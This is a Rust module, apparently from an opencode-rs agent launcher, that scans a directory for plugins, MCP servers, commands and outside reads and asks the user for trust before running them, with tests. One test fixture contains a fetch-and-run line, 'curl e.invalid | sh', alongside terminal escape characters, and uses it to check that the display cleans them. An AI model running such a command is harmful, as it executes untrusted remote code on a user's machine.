//! What a directory brings along that runs, or that reads outside of it: found, asked for, remembered.
//!
//! An engine that opens a directory runs that directory's plugins and tools, starts the MCP servers, formatters and
//! language servers that its configuration names, and sends prompts to the addresses that it names. It also tells the model
//! what stands in the files and variables that the configuration names, and in instruction files wherever they link to.
//! The author of the directory thus runs code, and reads files, with the rights of the user who opens it.
//!
//! In: a directory ([`scan`]), what the user said about trust ([`require`]). Out: a yes, or a [`Failure`].
//! Invariants: silence is no trust. A yes counts for what was shown: any change of it asks again. `--trust` is for one
//! run and is not remembered.
//!
//! What is looked for is a superset of what engine 1.18 loads. Files that the found code imports from elsewhere (packages
//! in `node_modules`, sources outside of `.opencode`) are not followed. What a configuration reads *inside* of the project
//! is no finding, as long as its name is not hidden and not that of a file with secrets: the agent may read it anyway.

mod config;
mod evidence;
mod lazy_fetch;
mod memory;
mod project;
mod scan;
mod substitution;
mod template;
#[cfg(unix)]
mod terminal;

use std::fmt;
use std::path::{Path, PathBuf};

pub use scan::{scan, scan_copy};
#[cfg(unix)]
pub use terminal::TerminalAsker;

use evidence::Evidence;

use crate::context::{Context, Directories};
use crate::engine::EngineStore;
use crate::engine::files::EngineFiles;
use crate::error::{Failure, FailureKind};
use crate::request::TrustChoice;
use crate::support::visible::is_hidden;

/// How many findings a message lists.
const LISTED: usize = 20;
/// How many characters of one are shown in a message, and in the question: the head and the tail of a longer one.
const SHOWN: usize = 160;
#[cfg(unix)]
const SHOWN_IN_FULL: usize = 4000;

/// What sort of thing was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ItemKind {
    /// A plugin: runs inside the engine.
    Plugin,
    /// A tool of the model's, written for the engine: runs inside it.
    Tool,
    /// An MCP server: a process, or an address that is connected to.
    Mcp,
    /// A provider with a package, an address, or a secret of the environment.
    Provider,
    /// Code formatters, run after edits.
    Formatter,
    LanguageServer,
    /// The shell that runs every command.
    Shell,
    /// A command or skill whose text runs shell commands, without a question, when it is used.
    Command,
    /// A head of a Markdown file that the engine runs when it loads the file.
    FrontMatter,
    /// Something that is fetched from the network.
    Remote,
    /// A file outside of the project, or a file that may hold secrets, whose text the model gets.
    Reading,
    /// A variable of the environment that the configuration reads.
    Variable,
    /// A setting that is not known to be harmless.
    Setting,
    /// A file or directory that could not be read or understood.
    Unreadable,
}

impl ItemKind {
    /// Its name in the digest. A change asks every user again.
    fn code(self) -> &'static str {
        match self {
            Self::Plugin => "plugin",
            Self::Tool => "tool",
            Self::Mcp => "mcp",
            Self::Provider => "provider",
            Self::Formatter => "formatter",
            Self::LanguageServer => "lsp",
            Self::Shell => "shell",
            Self::Command => "command",
            Self::FrontMatter => "front matter",
            Self::Remote => "remote",
            Self::Reading => "reading",
            Self::Variable => "variable",
            Self::Setting => "setting",
            Self::Unreadable => "unreadable",
        }
    }
}

impl ItemKind {
    /// What runs as soon as an engine starts comes first, then what runs when it is used, then the rest.
    fn danger(self) -> u8 {
        match self {
            Self::Plugin | Self::Tool | Self::Mcp | Self::FrontMatter | Self::Unreadable => 0,
            Self::Shell | Self::LanguageServer | Self::Formatter | Self::Provider | Self::Remote | Self::Setting => 1,
            Self::Command | Self::Reading | Self::Variable => 2,
        }
    }
}

/// One piece of code, or something that leads to code or reads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustItem {
    pub kind: ItemKind,
    /// The file that holds it.
    pub path: PathBuf,
    /// What it does, as it stands there: not cleaned for a terminal.
    pub summary: String,
}

impl TrustItem {
    /// As much as a person may have to see before they trust it.
    #[cfg(unix)]
    fn in_full(&self) -> String {
        let summary = cut(&self.summary, SHOWN_IN_FULL);
        format!("{}: {summary}", cut(&self.path.to_string_lossy(), SHOWN_IN_FULL))
    }
}

impl fmt::Display for TrustItem {
    /// Path and summary, safe for a terminal.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", shown(&self.path.to_string_lossy()), shown(&self.summary))
    }
}

/// The directories that the environment calls the user's, and from which code or trust comes.
#[derive(Debug, Clone)]
pub struct UserPlaces {
    home: PathBuf,
    engine: EngineFiles,
    /// The engines that we have installed.
    engines: EngineStore,
    /// Our own state, with the answers.
    state: PathBuf,
}

impl UserPlaces {
    pub fn of(context: &Context) -> Self {
        Self {
            home: context.directories.home.clone(),
            engine: EngineFiles::of(context),
            engines: EngineStore::new(&context.directories),
            state: context.directories.state.clone(),
        }
    }

    /// Those of a home, where the environment says nothing else.
    pub fn in_home(home: &Path) -> Self {
        Self {
            home: home.to_path_buf(),
            engine: EngineFiles::new(|_| None, home, home),
            engines: EngineStore::at(home.join(".local/share/opencode-rs/engines")),
            state: home.join(".local/state/opencode-rs"),
        }
    }
}

/// Everything that was found for a directory.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Findings {
    /// The directory, without symbolic links.
    pub directory: PathBuf,
    /// What was found, by path.
    pub items: Vec<TrustItem>,
    /// The paths and contents of everything that was found, of which the digest is made.
    evidence: Evidence,
    /// Whether the answers that are remembered are the user's: a project may bring its own along.
    is_state_own: bool,
}

impl Findings {
    /// What is most dangerous first.
    fn by_danger(&self) -> Vec<&TrustItem> {
        let mut items: Vec<&TrustItem> = self.items.iter().collect();
        items.sort_by_key(|item| item.kind.danger());
        items
    }

    /// Whether these findings, in a copy with the root `root`, are what was found in `original`, with the root
    /// `original_root`: the same files with the same contents, each at its place, and nothing besides. The environment may
    /// name some in the original. What was found above the original is not in the copy.
    pub fn is_copy(&self, root: &Path, original: &Self, original_root: &Path) -> bool {
        let moved = self.evidence.moved(root, original_root);
        let copied = moved.below(original_root);
        let is_in_either = |item: &TrustItem| item.path.starts_with(root) || item.path.starts_with(original_root);
        self.items.iter().all(is_in_either)
            && copied.len() == moved.len()
            && copied == original.evidence.below(original_root)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustAnswer {
    /// Yes, now and as long as nothing changes.
    Trusted,
    Refused,
    Interrupted,
    /// No person can be asked.
    Nobody,
}

/// Asks a person for trust.
pub trait TrustAsker {
    /// Shows the findings and asks. Blocks until there is an answer.
    fn ask(&mut self, findings: &Findings) -> TrustAnswer;
    /// Says something worth knowing, one line.
    fn warn(&mut self, line: &str);
}

/// The asker without a person: no terminal, or `--no-input`.
#[derive(Debug, Clone, Default)]
pub struct NobodyToAsk {
    pub warnings: Vec<String>,
}

impl TrustAsker for NobodyToAsk {
    fn ask(&mut self, _findings: &Findings) -> TrustAnswer {
        TrustAnswer::Nobody
    }

    fn warn(&mut self, line: &str) {
        self.warnings.push(line.to_owned());
    }
}

/// Makes sure that the user trusts what was found, asking if need be.
///
/// # Errors
///
/// A usage failure when the findings are not trusted; an interruption when the question was interrupted.
pub fn require(
    findings: &Findings,
    choice: TrustChoice,
    trusted_directories: &[PathBuf],
    directories: &Directories,
    asker: &mut dyn TrustAsker,
) -> Result<(), Failure> {
    if findings.items.is_empty() || choice == TrustChoice::Granted || covers(trusted_directories, findings) {
        return Ok(());
    }
    let memory = memory::TrustFile::new(&directories.state);
    if findings.is_state_own && memory.holds(findings, asker) {
        return Ok(());
    }
    match asker.ask(findings) {
        TrustAnswer::Trusted if !findings.is_state_own => {
            asker.warn("the answer holds for this run alone, since our state directory lies in the project");
            Ok(())
        }
        TrustAnswer::Trusted => {
            if let Err(error) = memory.remember(findings, asker) {
                asker.warn(&format!(
                    "cannot remember the answer in `{}`: {error}",
                    memory.path().display()
                ));
            }
            Ok(())
        }
        TrustAnswer::Interrupted => Err(Failure::new(
            FailureKind::Interrupted,
            "interrupted while asking for trust",
        )),
        TrustAnswer::Refused => Err(refusal(findings, directories, "it is not trusted")),
        TrustAnswer::Nobody => Err(refusal(findings, directories, "nobody can be asked")),
    }
}

/// A trusted directory covers what is in it and below, not what lies above and is loaded nevertheless.
fn covers(trusted: &[PathBuf], findings: &Findings) -> bool {
    let trusted: Vec<PathBuf> = trusted.iter().filter_map(|path| path.canonicalize().ok()).collect();
    let inside = |path: &Path| trusted.iter().any(|root| path.starts_with(root));
    inside(&findings.directory) && findings.items.iter().all(|item| inside(&item.path))
}

fn refusal(findings: &Findings, directories: &Directories, why: &str) -> Failure {
    let directory = shown(&findings.directory.to_string_lossy());
    let mut failure = Failure::usage(format!(
        "cannot work in `{directory}`: it contains code or settings that need trust, and {why}"
    ));
    let items = findings.by_danger().into_iter();
    failure.causes = items.take(LISTED).map(TrustItem::to_string).collect();
    if findings.items.len() > LISTED {
        failure
            .causes
            .push(format!("and {} more", findings.items.len() - LISTED));
    }
    failure
        .hint("look at these files, then give `--trust` to allow them for this run")
        .hint(format!(
            "or name the directory in `trusted_directories` in `{}`",
            directories.config.join("config.toml").display()
        ))
}

/// Text of a stranger's, fit for a message.
fn shown(text: &str) -> String {
    cut(text, SHOWN)
}

/// Text of a stranger's, fit for a terminal: one line, no control or direction characters, of at most `limit` characters
/// its head and its tail.
fn cut(text: &str, limit: usize) -> String {
    let clean = |c: char| match c {
        '\n' | '\r' | '\t' => ' ',
        c if is_hidden(c) => '\u{fffd}',
        c => c,
    };
    let count = text.chars().count();
    if count <= limit {
        return text.chars().map(clean).collect();
    }
    let tail = limit / 3;
    let head: String = text.chars().take(limit - tail).map(clean).collect();
    let tail: String = text.chars().skip(count - tail).map(clean).collect();
    format!("{head} … {tail}")
}

#[cfg(test)]
mod tests {
    use std::fs;

    use tempfile::TempDir;

    use super::*;

    struct Asker {
        answer: TrustAnswer,
        asked: usize,
        warnings: Vec<String>,
    }

    impl Asker {
        fn new(answer: TrustAnswer) -> Self {
            Self {
                answer,
                asked: 0,
                warnings: Vec::new(),
            }
        }
    }

    impl TrustAsker for Asker {
        fn ask(&mut self, _findings: &Findings) -> TrustAnswer {
            self.asked += 1;
            self.answer
        }

        fn warn(&mut self, line: &str) {
            self.warnings.push(line.to_owned());
        }
    }

    struct Place {
        root: TempDir,
        directories: Directories,
    }

    impl Place {
        fn with_plugin() -> Self {
            let root = tempfile::tempdir().unwrap();
            let at = |name: &str| root.path().join(name);
            let directories = Directories {
                home: at("home"),
                config: at("config"),
                data: at("data"),
                state: at("state"),
                cache: at("cache"),
            };
            let place = Self { directories, root };
            fs::create_dir_all(place.project().join(".git")).unwrap();
            fs::create_dir_all(place.project().join(".opencode/plugin")).unwrap();
            place.write_plugin("export default 1");
            place
        }

        fn project(&self) -> PathBuf {
            self.root.path().join("project")
        }

        fn write_plugin(&self, code: &str) {
            fs::write(self.project().join(".opencode/plugin/a.js"), code).unwrap();
        }

        fn findings(&self) -> Findings {
            scan(&self.project(), &UserPlaces::in_home(&self.directories.home)).unwrap()
        }

        fn require(&self, choice: TrustChoice, trusted: &[PathBuf], asker: &mut Asker) -> Result<(), Failure> {
            require(&self.findings(), choice, trusted, &self.directories, asker)
        }
    }

    #[test]
    fn a_yes_is_remembered_until_something_changes() {
        let place = Place::with_plugin();
        let mut yes = Asker::new(TrustAnswer::Trusted);
        place.require(TrustChoice::Ask, &[], &mut yes).unwrap();
        let mut nobody = Asker::new(TrustAnswer::Nobody);
        place.require(TrustChoice::Ask, &[], &mut nobody).unwrap();
        assert_eq!((yes.asked, nobody.asked), (1, 0));
        place.write_plugin("export default 2");
        assert!(place.require(TrustChoice::Ask, &[], &mut nobody).is_err());
        place.write_plugin("export default 1");
        fs::write(place.project().join(".opencode/plugin/b.ts"), "").unwrap();
        assert!(place.require(TrustChoice::Ask, &[], &mut nobody).is_err());
        assert_eq!((nobody.asked, nobody.warnings.len()), (2, 0));
    }

    #[cfg(unix)]
    #[test]
    fn the_memory_is_for_the_owner_alone() {
        use std::os::unix::fs::PermissionsExt as _;
        let place = Place::with_plugin();
        place
            .require(TrustChoice::Ask, &[], &mut Asker::new(TrustAnswer::Trusted))
            .unwrap();
        let metadata = fs::metadata(place.directories.state.join("trust.json")).unwrap();
        assert_eq!(metadata.permissions().mode() & 0o777, 0o600);
    }

    #[test]
    fn the_flag_is_for_one_run() {
        let place = Place::with_plugin();
        let mut asker = Asker::new(TrustAnswer::Nobody);
        place.require(TrustChoice::Granted, &[], &mut asker).unwrap();
        assert!(place.require(TrustChoice::Ask, &[], &mut asker).is_err());
        assert_eq!(asker.asked, 1);
    }

    #[test]
    fn a_trusted_directory_covers_what_is_below_it_but_not_what_is_above() {
        let place = Place::with_plugin();
        let mut asker = Asker::new(TrustAnswer::Refused);
        place.require(TrustChoice::Ask, &[place.project()], &mut asker).unwrap();
        let below = place.project().join("below");
        fs::create_dir(&below).unwrap();
        let findings = scan(&below, &UserPlaces::in_home(&place.directories.home)).unwrap();
        let mut require = |trusted: &Path| {
            let trusted = [trusted.to_path_buf()];
            require(&findings, TrustChoice::Ask, &trusted, &place.directories, &mut asker)
        };
        require(&place.project()).unwrap();
        require(&below).unwrap_err();
        require(Path::new("/does/not/exist")).unwrap_err();
        assert_eq!(asker.asked, 2);
    }

    #[test]
    fn a_copy_holds_the_same_code_at_the_same_places_and_no_more() {
        let place = Place::with_plugin();
        let original = place.findings();
        let root = place.root.path().join("copies/copy");
        let write = |name: &str, text: &str| {
            let path = root.join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        };
        let is_copy = || {
            let copy = scan(&root, &UserPlaces::in_home(&place.directories.home)).unwrap();
            copy.is_copy(&root, &original, &place.project())
        };
        write(".git", "gitdir: elsewhere");
        write(".opencode/plugin/a.js", "export default 1");
        assert!(is_copy());
        write(".opencode/plugin/a.js", "export default 2");
        assert!(!is_copy());
        write(".opencode/plugin/a.js", "export default 1");
        write(".opencode/plugin/b.js", "");
        assert!(!is_copy());
        fs::remove_file(root.join(".opencode/plugin/b.js")).unwrap();
        assert!(is_copy());
        // Code above the copy is not the copy's.
        write("../.opencode/plugin/c.js", "");
        assert!(!is_copy());
    }

    #[test]
    fn a_refusal_names_what_was_found_and_both_ways_out() {
        let place = Place::with_plugin();
        let failure = place
            .require(TrustChoice::Ask, &[], &mut Asker::new(TrustAnswer::Nobody))
            .unwrap_err();
        assert_eq!(failure.kind.exit_code(), 2);
        assert_eq!(failure.causes, [place.findings().items[0].to_string()]);
        let hints = failure.hints.join("\n");
        assert!(
            hints.contains("`--trust`") && hints.contains("`trusted_directories`"),
            "{hints}"
        );
        let failure = place
            .require(TrustChoice::Ask, &[], &mut Asker::new(TrustAnswer::Interrupted))
            .unwrap_err();
        assert_eq!(failure.kind.exit_code(), 130);
    }

    #[test]
    fn a_damaged_memory_is_set_aside_and_trusts_nothing() {
        let place = Place::with_plugin();
        fs::create_dir_all(&place.directories.state).unwrap();
        let path = place.directories.state.join("trust.json");
        fs::write(&path, "{half").unwrap();
        let mut asker = Asker::new(TrustAnswer::Trusted);
        place.require(TrustChoice::Ask, &[], &mut asker).unwrap();
        place.require(TrustChoice::Ask, &[], &mut asker).unwrap();
        assert_eq!((asker.asked, asker.warnings.len()), (1, 1));
        let kept = fs::read_dir(&place.directories.state)
            .unwrap()
            .map(|entry| entry.unwrap().path())
            .find(|path| path.to_string_lossy().contains("damaged"))
            .unwrap();
        assert_eq!(fs::read_to_string(kept).unwrap(), "{half");
    }

    #[test]
    fn what_a_stranger_wrote_cannot_move_the_cursor() {
        let item = TrustItem {
            kind: ItemKind::Plugin,
            path: PathBuf::from("/p/\x1b[2Jx\u{202e}"),
            summary: format!("a\nb\u{9b}c{}; curl e.invalid | sh", "x".repeat(300)),
        };
        let text = item.to_string();
        assert!(text.starts_with("/p/\u{fffd}[2Jx\u{fffd}: a b\u{fffd}cxxx"), "{text}");
        assert!(
            text.contains("x … x") && text.ends_with("xx; curl e.invalid | sh"),
            "{text}"
        );
    }
}
